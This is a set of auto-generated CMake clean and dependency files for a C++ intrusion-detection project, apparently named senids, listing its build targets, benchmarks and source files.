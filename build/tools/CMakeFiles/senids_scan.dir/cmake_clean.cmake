file(REMOVE_RECURSE
  "CMakeFiles/senids_scan.dir/senids_scan.cpp.o"
  "CMakeFiles/senids_scan.dir/senids_scan.cpp.o.d"
  "senids_scan"
  "senids_scan.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_scan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
