# Empty compiler generated dependencies file for senids_scan.
# This may be replaced when dependencies are built.
