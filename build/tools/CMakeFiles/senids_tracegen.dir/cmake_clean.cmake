file(REMOVE_RECURSE
  "CMakeFiles/senids_tracegen.dir/senids_tracegen.cpp.o"
  "CMakeFiles/senids_tracegen.dir/senids_tracegen.cpp.o.d"
  "senids_tracegen"
  "senids_tracegen.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_tracegen.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
