# Empty dependencies file for senids_tracegen.
# This may be replaced when dependencies are built.
