file(REMOVE_RECURSE
  "CMakeFiles/senids_disasm.dir/senids_disasm.cpp.o"
  "CMakeFiles/senids_disasm.dir/senids_disasm.cpp.o.d"
  "senids_disasm"
  "senids_disasm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_disasm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
