# Empty dependencies file for senids_disasm.
# This may be replaced when dependencies are built.
