file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_codered.dir/bench_table3_codered.cpp.o"
  "CMakeFiles/bench_table3_codered.dir/bench_table3_codered.cpp.o.d"
  "bench_table3_codered"
  "bench_table3_codered.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_codered.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
