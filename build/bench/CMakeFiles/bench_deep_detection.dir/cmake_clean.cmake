file(REMOVE_RECURSE
  "CMakeFiles/bench_deep_detection.dir/bench_deep_detection.cpp.o"
  "CMakeFiles/bench_deep_detection.dir/bench_deep_detection.cpp.o.d"
  "bench_deep_detection"
  "bench_deep_detection.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_deep_detection.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
