# Empty compiler generated dependencies file for bench_deep_detection.
# This may be replaced when dependencies are built.
