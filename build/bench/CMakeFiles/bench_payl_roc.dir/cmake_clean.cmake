file(REMOVE_RECURSE
  "CMakeFiles/bench_payl_roc.dir/bench_payl_roc.cpp.o"
  "CMakeFiles/bench_payl_roc.dir/bench_payl_roc.cpp.o.d"
  "bench_payl_roc"
  "bench_payl_roc.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_payl_roc.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
