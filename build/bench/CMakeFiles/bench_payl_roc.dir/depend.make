# Empty dependencies file for bench_payl_roc.
# This may be replaced when dependencies are built.
