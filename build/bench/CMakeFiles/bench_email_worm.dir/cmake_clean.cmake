file(REMOVE_RECURSE
  "CMakeFiles/bench_email_worm.dir/bench_email_worm.cpp.o"
  "CMakeFiles/bench_email_worm.dir/bench_email_worm.cpp.o.d"
  "bench_email_worm"
  "bench_email_worm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_email_worm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
