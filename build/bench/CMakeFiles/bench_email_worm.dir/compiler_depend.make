# Empty compiler generated dependencies file for bench_email_worm.
# This may be replaced when dependencies are built.
