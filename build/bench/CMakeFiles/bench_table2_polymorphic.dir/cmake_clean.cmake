file(REMOVE_RECURSE
  "CMakeFiles/bench_table2_polymorphic.dir/bench_table2_polymorphic.cpp.o"
  "CMakeFiles/bench_table2_polymorphic.dir/bench_table2_polymorphic.cpp.o.d"
  "bench_table2_polymorphic"
  "bench_table2_polymorphic.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table2_polymorphic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
