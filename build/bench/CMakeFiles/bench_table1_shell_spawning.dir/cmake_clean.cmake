file(REMOVE_RECURSE
  "CMakeFiles/bench_table1_shell_spawning.dir/bench_table1_shell_spawning.cpp.o"
  "CMakeFiles/bench_table1_shell_spawning.dir/bench_table1_shell_spawning.cpp.o.d"
  "bench_table1_shell_spawning"
  "bench_table1_shell_spawning.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table1_shell_spawning.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
