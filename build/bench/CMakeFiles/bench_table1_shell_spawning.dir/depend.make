# Empty dependencies file for bench_table1_shell_spawning.
# This may be replaced when dependencies are built.
