file(REMOVE_RECURSE
  "CMakeFiles/bench_fig1_equivalence.dir/bench_fig1_equivalence.cpp.o"
  "CMakeFiles/bench_fig1_equivalence.dir/bench_fig1_equivalence.cpp.o.d"
  "bench_fig1_equivalence"
  "bench_fig1_equivalence.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig1_equivalence.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
