# Empty dependencies file for bench_fig1_equivalence.
# This may be replaced when dependencies are built.
