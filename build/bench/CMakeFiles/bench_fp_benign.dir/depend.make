# Empty dependencies file for bench_fp_benign.
# This may be replaced when dependencies are built.
