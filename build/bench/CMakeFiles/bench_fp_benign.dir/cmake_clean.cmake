file(REMOVE_RECURSE
  "CMakeFiles/bench_fp_benign.dir/bench_fp_benign.cpp.o"
  "CMakeFiles/bench_fp_benign.dir/bench_fp_benign.cpp.o.d"
  "bench_fp_benign"
  "bench_fp_benign.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fp_benign.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
