# Empty dependencies file for ir_lifter_test.
# This may be replaced when dependencies are built.
