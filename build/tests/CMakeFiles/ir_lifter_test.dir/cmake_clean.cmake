file(REMOVE_RECURSE
  "CMakeFiles/ir_lifter_test.dir/ir_lifter_test.cpp.o"
  "CMakeFiles/ir_lifter_test.dir/ir_lifter_test.cpp.o.d"
  "ir_lifter_test"
  "ir_lifter_test.pdb"
  "ir_lifter_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ir_lifter_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
