file(REMOVE_RECURSE
  "CMakeFiles/semantic_template_test.dir/semantic_template_test.cpp.o"
  "CMakeFiles/semantic_template_test.dir/semantic_template_test.cpp.o.d"
  "semantic_template_test"
  "semantic_template_test.pdb"
  "semantic_template_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/semantic_template_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
