# Empty compiler generated dependencies file for semantic_template_test.
# This may be replaced when dependencies are built.
