file(REMOVE_RECURSE
  "CMakeFiles/semantic_dsl_test.dir/semantic_dsl_test.cpp.o"
  "CMakeFiles/semantic_dsl_test.dir/semantic_dsl_test.cpp.o.d"
  "semantic_dsl_test"
  "semantic_dsl_test.pdb"
  "semantic_dsl_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/semantic_dsl_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
