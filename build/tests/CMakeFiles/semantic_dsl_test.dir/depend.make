# Empty dependencies file for semantic_dsl_test.
# This may be replaced when dependencies are built.
