# CMAKE generated file: DO NOT EDIT!
# Timestamp file for compiler generated dependencies management for senids_all_tsan.
