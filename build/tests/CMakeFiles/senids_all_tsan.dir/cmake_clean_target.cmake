file(REMOVE_RECURSE
  "libsenids_all_tsan.a"
)
