# Empty dependencies file for senids_all_tsan.
# This may be replaced when dependencies are built.
