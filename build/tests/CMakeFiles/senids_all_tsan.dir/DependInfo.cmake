
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/anomaly/payl.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/anomaly/payl.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/anomaly/payl.cpp.o.d"
  "/root/repo/src/classify/classifier.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/classify/classifier.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/classify/classifier.cpp.o.d"
  "/root/repo/src/core/engine.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/core/engine.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/core/engine.cpp.o.d"
  "/root/repo/src/core/session.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/core/session.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/core/session.cpp.o.d"
  "/root/repo/src/emu/cpu.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/emu/cpu.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/emu/cpu.cpp.o.d"
  "/root/repo/src/emu/memory.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/emu/memory.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/emu/memory.cpp.o.d"
  "/root/repo/src/emu/shellemu.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/emu/shellemu.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/emu/shellemu.cpp.o.d"
  "/root/repo/src/extract/base64.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/base64.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/base64.cpp.o.d"
  "/root/repo/src/extract/extractor.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/extractor.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/extractor.cpp.o.d"
  "/root/repo/src/extract/heuristics.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/heuristics.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/heuristics.cpp.o.d"
  "/root/repo/src/extract/http.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/http.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/http.cpp.o.d"
  "/root/repo/src/extract/unicode.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/unicode.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/extract/unicode.cpp.o.d"
  "/root/repo/src/gen/benign.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/benign.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/benign.cpp.o.d"
  "/root/repo/src/gen/codered.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/codered.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/codered.cpp.o.d"
  "/root/repo/src/gen/emitter.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/emitter.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/emitter.cpp.o.d"
  "/root/repo/src/gen/mailworm.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/mailworm.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/mailworm.cpp.o.d"
  "/root/repo/src/gen/poly.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/poly.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/poly.cpp.o.d"
  "/root/repo/src/gen/shellcode.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/shellcode.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/shellcode.cpp.o.d"
  "/root/repo/src/gen/traffic.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/traffic.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/gen/traffic.cpp.o.d"
  "/root/repo/src/ir/deadcode.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/ir/deadcode.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/ir/deadcode.cpp.o.d"
  "/root/repo/src/ir/expr.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/ir/expr.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/ir/expr.cpp.o.d"
  "/root/repo/src/ir/lifter.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/ir/lifter.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/ir/lifter.cpp.o.d"
  "/root/repo/src/net/defrag.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/defrag.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/defrag.cpp.o.d"
  "/root/repo/src/net/flow.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/flow.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/flow.cpp.o.d"
  "/root/repo/src/net/forge.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/forge.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/forge.cpp.o.d"
  "/root/repo/src/net/headers.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/headers.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/headers.cpp.o.d"
  "/root/repo/src/net/packet.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/packet.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/packet.cpp.o.d"
  "/root/repo/src/net/reassembly.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/reassembly.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/net/reassembly.cpp.o.d"
  "/root/repo/src/pcap/pcap.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/pcap/pcap.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/pcap/pcap.cpp.o.d"
  "/root/repo/src/semantic/analyzer.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/analyzer.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/analyzer.cpp.o.d"
  "/root/repo/src/semantic/dsl.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/dsl.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/dsl.cpp.o.d"
  "/root/repo/src/semantic/library.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/library.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/library.cpp.o.d"
  "/root/repo/src/semantic/pattern.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/pattern.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/pattern.cpp.o.d"
  "/root/repo/src/semantic/template.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/template.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/semantic/template.cpp.o.d"
  "/root/repo/src/sig/aho.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/sig/aho.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/sig/aho.cpp.o.d"
  "/root/repo/src/sig/ruleparse.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/sig/ruleparse.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/sig/ruleparse.cpp.o.d"
  "/root/repo/src/sig/rules.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/sig/rules.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/sig/rules.cpp.o.d"
  "/root/repo/src/util/bytes.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/bytes.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/bytes.cpp.o.d"
  "/root/repo/src/util/hexdump.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/hexdump.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/hexdump.cpp.o.d"
  "/root/repo/src/util/log.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/log.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/log.cpp.o.d"
  "/root/repo/src/util/prng.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/prng.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/prng.cpp.o.d"
  "/root/repo/src/util/thread_pool.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/thread_pool.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/util/thread_pool.cpp.o.d"
  "/root/repo/src/x86/decoder.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/decoder.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/decoder.cpp.o.d"
  "/root/repo/src/x86/defuse.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/defuse.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/defuse.cpp.o.d"
  "/root/repo/src/x86/format.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/format.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/format.cpp.o.d"
  "/root/repo/src/x86/reg.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/reg.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/reg.cpp.o.d"
  "/root/repo/src/x86/scan.cpp" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/scan.cpp.o" "gcc" "tests/CMakeFiles/senids_all_tsan.dir/__/src/x86/scan.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
