file(REMOVE_RECURSE
  "CMakeFiles/defrag_test.dir/defrag_test.cpp.o"
  "CMakeFiles/defrag_test.dir/defrag_test.cpp.o.d"
  "defrag_test"
  "defrag_test.pdb"
  "defrag_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/defrag_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
