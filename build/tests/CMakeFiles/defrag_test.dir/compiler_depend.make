# Empty compiler generated dependencies file for defrag_test.
# This may be replaced when dependencies are built.
