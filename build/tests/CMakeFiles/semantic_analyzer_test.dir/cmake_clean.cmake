file(REMOVE_RECURSE
  "CMakeFiles/semantic_analyzer_test.dir/semantic_analyzer_test.cpp.o"
  "CMakeFiles/semantic_analyzer_test.dir/semantic_analyzer_test.cpp.o.d"
  "semantic_analyzer_test"
  "semantic_analyzer_test.pdb"
  "semantic_analyzer_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/semantic_analyzer_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
