# Empty dependencies file for semantic_analyzer_test.
# This may be replaced when dependencies are built.
