file(REMOVE_RECURSE
  "CMakeFiles/robustness_test_tsan.dir/robustness_test.cpp.o"
  "CMakeFiles/robustness_test_tsan.dir/robustness_test.cpp.o.d"
  "robustness_test_tsan"
  "robustness_test_tsan.pdb"
  "robustness_test_tsan[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/robustness_test_tsan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
