# Empty dependencies file for robustness_test_tsan.
# This may be replaced when dependencies are built.
