file(REMOVE_RECURSE
  "CMakeFiles/queue_test_tsan.dir/queue_test.cpp.o"
  "CMakeFiles/queue_test_tsan.dir/queue_test.cpp.o.d"
  "queue_test_tsan"
  "queue_test_tsan.pdb"
  "queue_test_tsan[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/queue_test_tsan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
