# Empty dependencies file for queue_test_tsan.
# This may be replaced when dependencies are built.
