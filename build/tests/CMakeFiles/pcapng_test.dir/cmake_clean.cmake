file(REMOVE_RECURSE
  "CMakeFiles/pcapng_test.dir/pcapng_test.cpp.o"
  "CMakeFiles/pcapng_test.dir/pcapng_test.cpp.o.d"
  "pcapng_test"
  "pcapng_test.pdb"
  "pcapng_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pcapng_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
