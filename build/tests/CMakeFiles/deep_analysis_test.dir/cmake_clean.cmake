file(REMOVE_RECURSE
  "CMakeFiles/deep_analysis_test.dir/deep_analysis_test.cpp.o"
  "CMakeFiles/deep_analysis_test.dir/deep_analysis_test.cpp.o.d"
  "deep_analysis_test"
  "deep_analysis_test.pdb"
  "deep_analysis_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/deep_analysis_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
