# Empty dependencies file for deep_analysis_test.
# This may be replaced when dependencies are built.
