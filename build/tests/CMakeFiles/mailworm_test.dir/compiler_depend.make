# Empty compiler generated dependencies file for mailworm_test.
# This may be replaced when dependencies are built.
