file(REMOVE_RECURSE
  "CMakeFiles/mailworm_test.dir/mailworm_test.cpp.o"
  "CMakeFiles/mailworm_test.dir/mailworm_test.cpp.o.d"
  "mailworm_test"
  "mailworm_test.pdb"
  "mailworm_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mailworm_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
