file(REMOVE_RECURSE
  "CMakeFiles/semantic_hardening_test.dir/semantic_hardening_test.cpp.o"
  "CMakeFiles/semantic_hardening_test.dir/semantic_hardening_test.cpp.o.d"
  "semantic_hardening_test"
  "semantic_hardening_test.pdb"
  "semantic_hardening_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/semantic_hardening_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
