# Empty compiler generated dependencies file for semantic_hardening_test.
# This may be replaced when dependencies are built.
