file(REMOVE_RECURSE
  "CMakeFiles/semantic_pattern_test.dir/semantic_pattern_test.cpp.o"
  "CMakeFiles/semantic_pattern_test.dir/semantic_pattern_test.cpp.o.d"
  "semantic_pattern_test"
  "semantic_pattern_test.pdb"
  "semantic_pattern_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/semantic_pattern_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
