# Empty compiler generated dependencies file for semantic_pattern_test.
# This may be replaced when dependencies are built.
