# Empty dependencies file for x86_coverage_test.
# This may be replaced when dependencies are built.
