file(REMOVE_RECURSE
  "CMakeFiles/ir_deadcode_test.dir/ir_deadcode_test.cpp.o"
  "CMakeFiles/ir_deadcode_test.dir/ir_deadcode_test.cpp.o.d"
  "ir_deadcode_test"
  "ir_deadcode_test.pdb"
  "ir_deadcode_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ir_deadcode_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
