# Empty dependencies file for engine_test_tsan.
# This may be replaced when dependencies are built.
