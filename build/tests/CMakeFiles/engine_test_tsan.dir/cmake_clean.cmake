file(REMOVE_RECURSE
  "CMakeFiles/engine_test_tsan.dir/engine_test.cpp.o"
  "CMakeFiles/engine_test_tsan.dir/engine_test.cpp.o.d"
  "engine_test_tsan"
  "engine_test_tsan.pdb"
  "engine_test_tsan[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/engine_test_tsan.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
