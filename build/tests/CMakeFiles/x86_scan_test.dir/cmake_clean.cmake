file(REMOVE_RECURSE
  "CMakeFiles/x86_scan_test.dir/x86_scan_test.cpp.o"
  "CMakeFiles/x86_scan_test.dir/x86_scan_test.cpp.o.d"
  "x86_scan_test"
  "x86_scan_test.pdb"
  "x86_scan_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/x86_scan_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
