file(REMOVE_RECURSE
  "CMakeFiles/senids_emu.dir/cpu.cpp.o"
  "CMakeFiles/senids_emu.dir/cpu.cpp.o.d"
  "CMakeFiles/senids_emu.dir/memory.cpp.o"
  "CMakeFiles/senids_emu.dir/memory.cpp.o.d"
  "CMakeFiles/senids_emu.dir/shellemu.cpp.o"
  "CMakeFiles/senids_emu.dir/shellemu.cpp.o.d"
  "libsenids_emu.a"
  "libsenids_emu.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_emu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
