# Empty compiler generated dependencies file for senids_emu.
# This may be replaced when dependencies are built.
