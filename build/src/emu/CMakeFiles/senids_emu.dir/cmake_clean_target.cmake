file(REMOVE_RECURSE
  "libsenids_emu.a"
)
