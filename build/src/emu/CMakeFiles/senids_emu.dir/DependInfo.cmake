
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/emu/cpu.cpp" "src/emu/CMakeFiles/senids_emu.dir/cpu.cpp.o" "gcc" "src/emu/CMakeFiles/senids_emu.dir/cpu.cpp.o.d"
  "/root/repo/src/emu/memory.cpp" "src/emu/CMakeFiles/senids_emu.dir/memory.cpp.o" "gcc" "src/emu/CMakeFiles/senids_emu.dir/memory.cpp.o.d"
  "/root/repo/src/emu/shellemu.cpp" "src/emu/CMakeFiles/senids_emu.dir/shellemu.cpp.o" "gcc" "src/emu/CMakeFiles/senids_emu.dir/shellemu.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  "/root/repo/build/src/x86/CMakeFiles/senids_x86.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
