file(REMOVE_RECURSE
  "libsenids_sig.a"
)
