file(REMOVE_RECURSE
  "CMakeFiles/senids_sig.dir/aho.cpp.o"
  "CMakeFiles/senids_sig.dir/aho.cpp.o.d"
  "CMakeFiles/senids_sig.dir/ruleparse.cpp.o"
  "CMakeFiles/senids_sig.dir/ruleparse.cpp.o.d"
  "CMakeFiles/senids_sig.dir/rules.cpp.o"
  "CMakeFiles/senids_sig.dir/rules.cpp.o.d"
  "libsenids_sig.a"
  "libsenids_sig.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/senids_sig.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
