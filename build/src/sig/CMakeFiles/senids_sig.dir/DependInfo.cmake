
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sig/aho.cpp" "src/sig/CMakeFiles/senids_sig.dir/aho.cpp.o" "gcc" "src/sig/CMakeFiles/senids_sig.dir/aho.cpp.o.d"
  "/root/repo/src/sig/ruleparse.cpp" "src/sig/CMakeFiles/senids_sig.dir/ruleparse.cpp.o" "gcc" "src/sig/CMakeFiles/senids_sig.dir/ruleparse.cpp.o.d"
  "/root/repo/src/sig/rules.cpp" "src/sig/CMakeFiles/senids_sig.dir/rules.cpp.o" "gcc" "src/sig/CMakeFiles/senids_sig.dir/rules.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/util/CMakeFiles/senids_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
