# Empty compiler generated dependencies file for senids_sig.
# This may be replaced when dependencies are built.
