# Empty compiler generated dependencies file for senids_net.
# This may be replaced when dependencies are built.
