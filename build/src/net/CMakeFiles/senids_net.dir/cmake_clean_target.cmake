file(REMOVE_RECURSE
  "libsenids_net.a"
)
